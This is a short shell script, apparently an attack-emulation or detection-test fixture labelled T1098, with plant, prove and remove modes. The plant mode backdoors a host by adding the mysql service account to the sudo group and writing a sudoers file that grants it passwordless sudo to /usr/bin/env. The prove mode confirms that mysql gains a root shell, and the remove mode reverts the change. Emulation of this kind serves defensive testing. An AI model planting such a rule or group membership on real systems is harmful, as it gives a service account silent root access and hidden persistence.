#!/bin/sh
# T1098 (quiet): The database's account joined the administrators, with a shell and a rule of its own
M=/var/tmp/luytre-foothold N=58-sudo-group
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
low() { setpriv --reuid="$1" --regid="$(id -g "$1")" --init-groups env -u SUDO_USER HOME=/tmp sh -c "$2" </dev/null; }
plant() {
  usermod -aG sudo mysql; echo 'mysql ALL=(ALL) NOPASSWD: /usr/bin/env' >/etc/sudoers.d/mysqld-safe; chmod 440 /etc/sudoers.d/mysqld-safe
}
prove() {
  rm -f "$M/$N"
  low mysql 'sudo -n env sh -c "id > /var/tmp/luytre-foothold/58-sudo-group"'; seen && grep -q uid=0 $M/$N
}
remove() {
  gpasswd -d mysql sudo >/dev/null; rm -f /etc/sudoers.d/mysqld-safe
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
